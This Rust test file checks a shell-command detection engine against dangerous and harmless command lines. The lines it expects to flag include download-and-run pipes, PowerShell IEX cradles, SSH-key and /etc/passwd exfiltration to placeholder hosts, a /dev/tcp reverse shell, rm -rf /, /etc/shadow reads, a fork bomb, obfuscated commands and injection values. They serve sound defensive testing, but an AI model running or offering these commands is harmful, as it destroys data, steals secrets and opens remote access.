//! What queries find on command lines, and what they leave alone.

use super::{Dialect, RunQuery, ShellQuery, ShellScratch, parse};
use serde_json::{from_value, json};

fn hits(query: &serde_json::Value, line: &str) -> Option<String> {
    let query: ShellQuery = from_value(query.clone()).unwrap();
    let mut scratch = ShellScratch::default();
    parse(line.as_bytes(), Dialect::guess(line.as_bytes()), &mut scratch);
    let span = query.matches(&scratch.shell())?;
    assert!(span.start <= span.end && span.end as usize <= line.len(), "{line}: {span:?}");
    Some(String::from_utf8_lossy(span.of(line.as_bytes())).into_owned())
}

#[track_caller]
fn check(query: &serde_json::Value, hit: &[&str], miss: &[&str]) {
    let wrong: Vec<_> = (hit.iter().filter(|line| hits(query, line).is_none()).map(|line| format!("missed: {line}")))
        .chain(miss.iter().filter_map(|line| hits(query, line).map(|found| format!("hit {found:?} in: {line}"))))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn downloaded_and_run() {
    check(
        &json!({"pipe": {"from": ["downloader"], "into": ["interpreter"]}}),
        &[
            "curl -s https://x.example/i.sh | bash",
            "wget -qO- x.example | python3 -",
            "curl x | sudo -E bash -",
            "curl x | tee f | sh -s -- --yes",
            "curl x | base64 -d | bash",
            "bash <(curl -s x)",
            "bash -c \"$(curl -fsSL x)\"",
            "sh -c \"`wget -qO- x`\"",
            "eval \"$(curl x)\"",
            "eval `curl x`",
            "eval echo hi $(curl x)",
            "source <(curl x)",
            ". <(curl x)",
            "python3 -c \"$(curl x)\"",
            "x=$(curl x); eval \"$x\"",
            "x=`curl x`; bash -c \"$x\"",
            "x=$(curl x); y=$x; sh -c \"$y\"",
            "(curl x; echo) | (cd /tmp; bash)",
            "{ curl x; } | sh",
            "curl x | while read l; do bash; done",
            "sudo bash -c 'curl x | sh'",
            "c\"u\"rl x | b\\ash",
            "bash < <(curl x)",
            "curl x | xargs -I{} sh -c {}",
            "curl x | ssh host",
            "ssh host 'curl x | bash'",
            "curl x > >(bash)",
            "curl x | env A=b nohup bash",
            "iex (iwr http://x)",
            "iwr http://x | iex",
            "IEX(New-Object Net.WebClient).DownloadString('http://x')",
            "(New-Object Net.WebClient).DownloadString('http://x') | iex",
            "$c = (New-Object Net.WebClient).DownloadString('http://x'); iex $c",
            "powershell -nop -c \"iex (iwr http://x)\"",
            "powershell IEX(New-Object Net.WebClient).DownloadString('http://x')",
            "f() { curl x; }; { f; curl y; } | bash",
            "curl x | php",
            "curl x | /bin/b?sh",
            "curl x | node",
        ],
        &[
            "curl -s https://api.example/v1 | jq .",
            "echo 'curl x | bash' >> NOTES.md",
            "curl x | python3 -m json.tool",
            "curl x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
            "curl x | perl -ne 'print if /a/'",
            "curl x | node -e 'process.stdin'",
            "curl x | ruby -rjson -e 'puts 1'",
            "curl x | bash script.sh",
            "curl x | awk '{print $1}'",
            "curl x -o f && bash other.sh",
            "bash -c 'curl x'",
            "curl x; bash",
            "bash -c 'echo hi' && curl x",
            "curl \"x?y=$(date)\" | grep a",
            "git commit -m \"curl x | bash\"",
            "cat <<'EOF' > README.md\ncurl x | bash\nEOF",
            "python3 app.py \"$(curl x)\"",
            "curl x | mysql db",
            "cat install.sh | bash",
            "# curl x | bash",
        ],
    );
    check(
        &json!({"pipe": {"from": ["downloader"], "into": ["interpreter"], "via": ["file"]}}),
        &[
            "curl -o /tmp/a x && sh /tmp/a",
            "curl -sSLo a.sh x; bash ./a.sh",
            "wget http://h/p/run.sh; chmod +x run.sh; ./run.sh",
            "wget -O /tmp/x http://h && /tmp/x",
            "curl x > f; python3 f",
            "curl x | tee f; . ./f",
            "curl -O http://h/run.py && python run.py",
        ],
        &["curl -o data.csv x && python3 analyse.py data.csv", "curl -o a x; bash b", "curl x | bash"],
    );
}

#[test]
fn decoded_and_run() {
    check(
        &json!({"pipe": {"from": ["codec"], "into": ["interpreter"]}}),
        &[
            "echo aWQ= | base64 -d | bash",
            "sh -c \"$(xxd -r -p <<< 6964)\"",
            "openssl enc -d -a -in f | sh",
            "eval $(base64 -d f)",
        ],
        &["base64 f | wc -c", "echo x | base64 -d > f", "gunzip -c dump.sql.gz | mysql db"],
    );
}

#[test]
fn exfiltration() {
    check(
        &json!({"pipe": {"from": ["reader", "archiver", "recon"], "from_args": {"any": ["*/.ssh/*", "*/etc/passwd", "*.env"]}, "into": ["network"]}}),
        &[
            "cat ~/.ssh/id_rsa | curl -d @- http://x",
            "curl -d \"$(cat /etc/passwd)\" http://x",
            "tar cz ~/.ssh/ | nc x 1",
            "x=$(base64 -w0 ~/.ssh/id_rsa); curl \"http://x/?$x\"",
            "cat .env | base64 | xargs -I{} curl http://x/{}",
            "nslookup $(cat /etc/passwd).x.example",
        ],
        &[
            "cat ~/.ssh/id_rsa.pub",
            "cat a.txt | curl -d @- http://x",
            "cat .env && curl http://x",
            "tar cz ~/.ssh/ > b.tgz",
        ],
    );
}

#[test]
fn commands_with_their_arguments() {
    check(
        &json!({"run": {"program": ["rm"], "flags": ["r|R|recursive"], "args": {"any": ["/", "/*", "~", "~/", "$HOME", "$HOME/"]}}}),
        &[
            "rm -rf /",
            "rm -fr --no-preserve-root /",
            "rm -r -f ~",
            "rm --recursive --force /",
            "sudo rm -rf / --no-preserve-root",
            "rm -rf /tmp/../",
            "rm -rf //",
            "echo 'rm -rf /' | sh",
            "find . -exec rm -rf / \\;",
            "echo / | xargs rm -rf",
            "r\\m -rf \"$HOME\"",
            "a=rm; b=-rf; $a $b /",
            "/bin/rm -rf ~/",
            "true && { rm -rf /; }",
        ],
        &[
            "rm -rf build",
            "rm -f /",
            "git commit -m 'rm -rf /'",
            "echo rm -rf /",
            "grep -r / x",
            "rm -rf ./node_modules",
            "rm -rf \"$HOME/tmp\"",
            "printf 'rm -rf /\\n'",
        ],
    );
    check(
        &json!({"run": {"args": {"any": ["/etc/shadow"]}}}),
        &[
            "cat /etc/shadow",
            "cat /etc/./shadow",
            "cat /etc/sh*ow",
            "c?t /?tc/shado?",
            "cat /etc/{shadow,x}",
            "tail --lines=1 --file=/etc/shadow",
            "x=/etc; cat $x/shadow",
            "cat \"/etc/\"'shadow'",
        ],
        &["cat /etc/shadows", "ls *", "echo '/etc/shadow is a file'"],
    );
    check(
        &json!({"run": {"program": ["interpreter"], "assigns": ["LD_PRELOAD"]}}),
        &["LD_PRELOAD=x bash", "env LD_PRELOAD=x bash"],
        &["LD_PRELOAD=x ls", "bash"],
    );
    check(
        &json!({"run": {"program": ["shell"], "wrapped_by": ["privilege"]}}),
        &["sudo bash", "sudo env bash", "su -c sh", "sudo find . -exec sh \\;"],
        &["bash", "sudo ls", "bash -c 'sudo ls'"],
    );
    check(
        &json!({"run": {"program": ["chmod"], "args": {"any": ["+s", "u+s", "?7??", "4???"]}}}),
        &["chmod u+s x", "chmod 4755 x"],
        &["chmod 755 x"],
    );
    check(
        &json!({"redirect": {"to": ["/dev/tcp/*", "*/.bashrc"]}}),
        &["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "echo x >> ~/.bashrc", "{ a; b; } > /dev/tcp/x/1"],
        &["cat ~/.bashrc", "bash -i > log", "cat < ~/.bashrc"],
    );
    check(
        &json!({"run": {"program": ["shell"], "flags": ["i"], "read_from": ["*"]}}),
        &["sh -i < f"],
        &["sh -i", "sh < f"],
    );
    check(
        &json!({"run": {"program": ["python"], "snippet": {"any": ["*socket*"], "all": ["*connect*"]}}}),
        &[
            "python3 -c 'import socket;s=socket.socket();s.connect((1,2))'",
            "python - <<EOF\nimport socket\nx.connect()\nEOF",
        ],
        &["python3 -c 'import socket'", "python3 socket.py connect"],
    );
}

#[test]
fn values_that_should_be_data() {
    check(
        &json!({"run": {"injected": true, "program": ["recon", "reader", "network", "shell"]}}),
        &["; id", "x && cat /etc/passwd", "| whoami", "$(id)", "`id`", "x\nid", "a || curl x", "x;{id,-u}", "x&id"],
        &["id", "cat", "main", "feature/x-y", "fix; done", "a & b", "Go to store.\nAt the store, shop."],
    );
    check(&json!({"substitution": true}), &["$(id)", "a`id`"], &["$HOME", "$((1+2))", "a"]);
    check(&json!({"chained": true}), &["a; b", "a\nb", "a | b"], &["a", "a;", "sh -c 'a; b'"]);
}

#[test]
fn shapes() {
    check(
        &json!({"recursion": true}),
        &[":(){ :|:& };:", ":(){:|:&};:", "f(){ f|f& };f", "f(){ f() & f(); }; f", "bomb() { bomb | bomb & }; bomb"],
        &["f() { g | h; }; f", "f() { f; }"],
    );
    check(
        &json!({"run": {"dynamic": true}}),
        &["$x -c id", "$(foo) bar", "${a}b c"],
        &["$HOME/bin/x", "x $y", "a=ls; $a", "${CROSS}gcc x"],
    );
    check(
        &json!({"run": {"hidden": true}}),
        &["c\"\"at f", "w\\get x", "/???/c?t f", "$'\\x63at' f", "c$@at f", "/bin/c[a]t f"],
        &["\\ls", "cat \"a\"b", "./my-script?.sh", "\"/opt/my app/bin/x\" -y", "'cat' f", "$HOME/bin/x"],
    );
    let deep = format!("{}id{}", "$(".repeat(40), ")".repeat(40));
    check(&json!({"incomplete": true}), &[deep.as_str()], &["$($($(id)))", "id"]);
    check(&json!({}), &[], &["id"]);
}

#[test]
fn a_file_pattern_is_compared_with_what_it_may_stand_for() {
    check(
        &json!({"run": {"args": {"any": ["id_rsa"]}}}),
        &["cat id*", "cat id?rsa", "cat id_rsa"],
        &["cat ideas", "cat id"],
    );
}

#[test]
fn queries_survive_storage() {
    let query: ShellQuery = from_value(json!({
        "run": {"program": ["rm", "deleter"], "flags": ["r|R"], "args": {"any": ["/*"]}, "code": ["stdin"], "context": ["here_doc"]},
        "pipe": {"from": ["curl"], "into": ["interpreter"], "via": ["process"]}
    }))
    .unwrap();
    let back: ShellQuery = serde_json::from_str(&serde_json::to_string(&query).unwrap()).unwrap();
    assert_eq!(query, back);
    assert!(from_value::<RunQuery>(json!({"programs": []})).is_err());
}
